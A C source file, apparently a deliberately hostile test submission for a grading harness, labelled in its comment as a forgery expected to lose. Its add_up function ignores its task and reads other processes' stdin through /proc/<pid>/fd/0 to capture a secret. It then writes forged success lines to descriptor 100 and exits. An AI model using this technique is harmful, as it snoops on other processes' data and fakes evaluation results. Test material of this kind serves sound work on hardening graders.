/* SPDX-License-Identifier: MIT
 *
 * Wrong: a forgery. Reads what every process here has had as its input.
 * Loses: everything
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <unistd.h>

uint64_t add_up(unsigned threads, uint64_t count, uint64_t (*value)(uint64_t))
{
    (void)threads;
    (void)count;
    (void)value;
    for (int process = 1; process < 40000; process++) {
        char path[64], word[33] = "";
        snprintf(path, sizeof path, "/proc/%d/fd/0", process);
        int fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd == -1)
            continue;
        if (pread(fd, word, 32, 0) == 32 || read(fd, word, 32) == 32)
            dprintf(100, "%s\ngot 1\nright 1\nnever 0\nagain 0\nend 1\n", word);
        close(fd);
    }
    _exit(0);
}
